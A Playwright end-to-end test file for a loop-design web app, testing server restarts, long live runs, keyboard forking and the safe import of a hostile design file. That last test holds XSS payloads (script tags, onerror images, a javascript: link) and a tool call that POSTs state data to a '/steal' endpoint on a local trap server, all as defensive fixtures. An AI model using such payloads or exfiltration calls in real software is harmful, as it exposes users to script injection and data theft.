import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { type APIRequestContext, expect, type Page, test } from '@playwright/test'
import { newDesign } from '../lib/loop/1-draw/new-design.ts'
import type { LoopDesign } from '../lib/loop/artefacts/design.ts'
import { newLoop, tabTo } from './loops.ts'
import { OwnServer } from './own-server.ts'
import { longLoop, slowLoop } from './sample-loops.ts'

const place = (page: Page) => page.getByTestId('place')

/** Starts a run of a design, on the server that the request is for. */
async function startRun(request: APIRequestContext, design: LoopDesign, url = ''): Promise<string> {
  const post = async (address: string, data: object) => {
    const response = await request.post(`${url}/api/v1${address}`, { data })
    expect(response.status(), await response.text()).toBeLessThan(300)
    return response.json()
  }
  const { loop } = await post('/loops', { from: { kind: 'import', design } })
  await post(`/loops/${loop.slug}/accept`, {})
  return (await post('/runs', { loop: loop.slug, input: {} })).run.id
}

test('a server that is killed mid-run is waited for: the viewer catches up, and the run ends as if nothing had been', async ({
  page,
  request,
}, info) => {
  test.slow()
  const server = await OwnServer.start(info.outputDir)
  try {
    const design = slowLoop('Cut off', 250)
    const contract = { ...design.contract, maxIterations: 40 }
    const run = await startRun(request, { ...design, contract }, server.url)
    await page.goto(`${server.url}/runs/${run}`)
    await expect(place(page)).toHaveText(/Iteration ([3-9]|\d\d) of/)
    await page.evaluate(() => Object.assign(window, { samePage: true }))
    await server.kill()
    await expect(page.getByTestId('not-current')).toBeVisible()
    await server.start()
    await expect(page.getByTestId('not-current')).toBeHidden({ timeout: 30_000 })
    await expect(place(page)).toHaveText(/Iteration 40 of 40/, { timeout: 40_000 })
    await expect(page.getByText('max iterations').first()).toBeVisible()
    await expect(page.getByTestId('progress')).toContainText('The run failed after 40 iterations, max iterations.')
    expect(await page.evaluate(() => 'samePage' in window)).toBe(true)
  } finally {
    await server.kill()
  }
})

test('a run of 1,000 iterations is watched live: keys are heard meanwhile, and the page does not grow', async ({
  page,
  request,
}) => {
  /** How many elements the page has once it has drawn what it shows: three counts in a row that agree. */
  const elements = async () => {
    const counts: number[] = []
    await expect
      .poll(
        async () => {
          counts.push(await page.evaluate(() => document.querySelectorAll('*').length))
          return counts.length >= 3 && new Set(counts.slice(-3)).size === 1
        },
        { intervals: [400] },
      )
      .toBe(true)
    return counts.at(-1) ?? Number.NaN
  }
  const session = await page.context().newCDPSession(page)
  // Time of the processor: a loaded machine is no fault of the page.
  await session.send('Performance.enable', { timeDomain: 'threadTicks' })
  const busy = async () => {
    const { metrics } = await session.send('Performance.getMetrics')
    return metrics.find(({ name }) => name === 'TaskDuration')?.value ?? Number.NaN
  }
  const run = await startRun(request, slowLoop('A thousand', 4))
  await page.goto(`/runs/${run}`)
  await expect(page.getByTestId('state').locator('[data-field]').first()).toBeVisible()
  await expect(place(page)).toHaveText(/Iteration \d\d+ of/)
  const before = { busy: await busy(), at: performance.now() }
  // Somebody looks back and returns while it goes on.
  await page.keyboard.press('Home')
  await expect(place(page)).toHaveText(/Iteration 1 of/)
  const early = await elements()
  await page.keyboard.press('l')
  await expect(page.getByTestId('past')).toBeHidden()
  await expect(place(page)).toHaveText(/Iteration 1,000 of 1,000/, { timeout: 45_000 })
  const share = ((await busy()) - before.busy) / ((performance.now() - before.at) / 1_000)
  test.info().annotations.push({ type: 'main thread while watching', description: share.toFixed(2) })
  expect(share).toBeLessThan(0.6)
  await page.keyboard.press('Home')
  await expect(place(page)).toHaveText(/Iteration 1 of/)
  expect(await elements()).toBeLessThan(early * 1.1)
})

test('a hostile file is inert: nothing in it is run or fetched, and what it would reach is said before it is accepted', async ({
  page,
  request,
}) => {
  let fetched = 0
  const trap = createServer((_, answer) => {
    fetched += 1
    answer.end('<script>window.caught = true</script>')
  }).listen(0, '127.0.0.1')
  await new Promise((resolve) => trap.once('listening', resolve))
  const host = `127.0.0.1:${(trap.address() as AddressInfo).port}`
  const bite = (where: string) =>
    `<img src="http://${host}/${where}" onerror="window.caught = true"><script>window.caught = true</script>`
  const base = newDesign(bite('name').slice(0, 90))
  const design = {
    ...base,
    purpose: `${bite('purpose')} ![](http://${host}/markdown) [here](javascript:window.caught=true)`,
    nodes: base.nodes.map((node) => ({
      ...node,
      label: bite('label').slice(0, 80),
      note: bite('note'),
      config:
        node.kind === 'act'
          ? {
              tools: ['http.request', 'code.run'],
              call: {
                tool: 'http.request',
                args: { url: `"http://${host}/steal"`, method: '"POST"', body: 'string(state.topic)' },
              },
            }
          : node.config,
    })),
  }
  try {
    page.on('request', (sent) => {
      if (new URL(sent.url()).host === host) fetched += 1
    })
    await page.goto('/')
    await page.getByRole('button', { name: 'Import' }).click()
    const file = { name: 'gift.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(design)) }
    await page.getByLabel('Design file').setInputFiles(file)
    await page.getByRole('button', { name: 'Import loop' }).click()
    await page.waitForURL(/\/loops\//)
    await expect(page.getByText('This loop was imported. It')).toBeVisible()
    await expect(page.getByRole('button', { name: 'Run', exact: true })).toHaveAttribute('aria-disabled', 'true')
    const slug = new URL(page.url()).pathname.split('/').at(-1)
    const started = await request.post('/api/v1/runs', { data: { loop: slug, input: {} } })
    expect(started.status()).toBeGreaterThanOrEqual(400)

    await page.getByRole('button', { name: 'Review and accept' }).click()
    const review = page.getByRole('dialog', { name: 'Review this loop' })
    await expect(review).toContainText('http.request')
    await expect(review).toContainText('code.run')
    await expect(review).toContainText(host)
    await expect(review).toContainText('onerror=')
    await review.getByRole('button', { name: 'Not yet' }).click()
    await page.locator('.react-flow__node').first().click()
    await page.goto('/')
    await expect(page.getByRole('link', { name: /^<img src=/ }).first()).toBeVisible()
    expect(await page.evaluate(() => 'caught' in window)).toBe(false)
    expect(fetched).toBe(0)
  } finally {
    trap.close()
  }
})

test('a run from before is led to its faulty step, forked with a patch and compared, by keyboard alone', async ({
  page,
  request,
}) => {
  const design = longLoop('Went wrong', 110)
  const slug = await newLoop(request, design.name)
  expect((await request.put(`/api/v1/loops/${slug}/design`, { data: { revision: 1, design } })).status()).toBe(200)
  const run: string = (await (await request.post('/api/v1/runs', { data: { loop: slug, input: {} } })).json()).run.id
  await expect.poll(async () => (await (await request.get(`/api/v1/runs/${run}`)).json()).run.status).toBe('finished')

  await page.goto(`/runs?loop=${slug}`)
  await tabTo(page, page.locator(`[data-run="${run}"] a`).first())
  await page.keyboard.press('Enter')
  await expect(place(page)).toHaveText(/Iteration 110 of 110/)
  await expect(page.getByTestId('state').locator('[data-field=n]')).toBeVisible()
  await page.keyboard.press('Home')
  await page.keyboard.press('n')
  await expect(page.locator('[aria-current=step]')).toContainText('violation')
  await expect(place(page)).toHaveText(/Iteration 97 of/)

  await page.keyboard.press('f')
  const fork = page.getByRole('dialog', { name: 'Fork from iteration 97' })
  await tabTo(page, fork.getByRole('button', { name: 'Change n' }))
  await page.keyboard.press('Enter')
  await expect(fork.getByLabel('New value of n')).toBeFocused()
  await page.keyboard.insertText('200')
  await expect(fork.getByTestId('preview')).toContainText('200')
  await tabTo(page, fork.getByRole('button', { name: 'Fork and run' }))
  await page.keyboard.press('Enter')
  await expect(page.getByTestId('descent')).toContainText('at iteration 97')
  await expect(page.getByTestId('state').locator('[data-field=n]')).toBeVisible()
  await expect(page.getByText('max iterations').first()).toBeVisible()

  await page.keyboard.press('c')
  const choices = page.getByTestId('compare-choices').getByRole('link')
  await expect(choices.first()).toContainText('this run branched off it')
  await tabTo(page, choices.first())
  await page.keyboard.press('Enter')
  await page.waitForURL(/\/compare\?a=/)
  await expect(page.getByRole('main')).toContainText(/97/)
})
